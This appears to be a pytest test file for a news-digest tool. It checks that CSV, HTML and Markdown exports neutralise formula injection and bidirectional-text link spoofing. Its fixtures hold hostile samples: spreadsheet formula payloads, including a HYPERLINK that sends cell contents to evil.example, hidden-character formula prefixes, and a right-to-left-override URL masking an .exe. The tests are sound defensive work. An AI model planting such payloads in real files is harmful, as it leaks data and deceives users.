"""Digests read back by a spreadsheet set to ";" and by browsers: no formula, no reversed link."""

from __future__ import annotations

import re

import pytest

from monitor.digest.build import build_digest
from monitor.digest.render import render
from tests.digest_support import NOW, Entry, add_feed, add_issues, days_ago, ingest

SEMICOLON_TITLES = ["Canada;=HYPERLINK(A1)", 'Canada;=HYPERLINK("http://evil.example/?"&A1;"Click")',
                    "Canada,@SUM(A1)"]
HIDDEN_TITLES = ["\u200b=HYPERLINK(\"http://evil.example\")", "\ufeff+1", "\uff1dSUM(A1)"]
BIDI_URL = "https://news.example/\u202egpj.exe"


@pytest.fixture
def digest(store):
    add_issues(store)
    feed = add_feed(store, "Globe", "https://globe.example/rss")
    titles = [*SEMICOLON_TITLES, *HIDDEN_TITLES]
    entries = [Entry(t, days_ago(i + 1), {"tariffs": ("tariff",)}, "", f"https://ok.example/{i}")
               for i, t in enumerate(titles)]
    entries.append(Entry("Tariff link", days_ago(5), {"tariffs": ("tariff",)}, "", BIDI_URL))
    ingest(store, feed, entries)
    return build_digest(store, days_ago(7), None, now=NOW)


def spreadsheet_cells(text: str, separator: str) -> list[str]:
    """Cells as a spreadsheet splits them: a quote opens or closes quoting, "" inside is a quote."""
    cells, cell, quoted, i = [], [], False, 0
    while i < len(text):
        ch = text[i]
        if ch == '"' and quoted and text[i + 1 : i + 2] == '"':
            cell.append('"')
            i += 1
        elif ch == '"':
            quoted = not quoted
        elif ch in (separator, "\n") and not quoted:
            cells.append("".join(cell).rstrip("\r"))
            cell = []
        else:
            cell.append(ch)
        i += 1
    return [*cells, "".join(cell)]


@pytest.mark.parametrize("separator", [",", ";"])
def test_no_cell_starts_a_formula_whichever_separator_the_spreadsheet_uses(digest, separator):
    text = render(digest, "csv").decode("utf-8-sig")
    cells = spreadsheet_cells(text, separator)
    assert any("Canada;=HYPERLINK(A1)" in cell for cell in cells)
    for cell in cells:
        visible = cell.lstrip(" \u200b\ufeff\u00a0")
        assert not visible.startswith(("=", "+", "-", "@", "\uff1d", "\uff0b")), (separator, cell)


def test_every_csv_cell_is_quoted(digest):
    lines = render(digest, "csv").decode("utf-8-sig").splitlines()
    assert all(line.startswith('"') and line.endswith('"') for line in lines)


@pytest.mark.parametrize("fmt", ["html", "md"])
def test_links_carry_no_bidirectional_controls(digest, fmt):
    text = render(digest, fmt).decode("utf-8")
    assert "https://news.example/gpj.exe" in text
    links = re.findall(r'href="([^"]*)"|\]\(([^)]*)\)', text)
    assert links
    for link in ("".join(parts) for parts in links):
        assert not re.search("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|%E2%80%AE", link), link
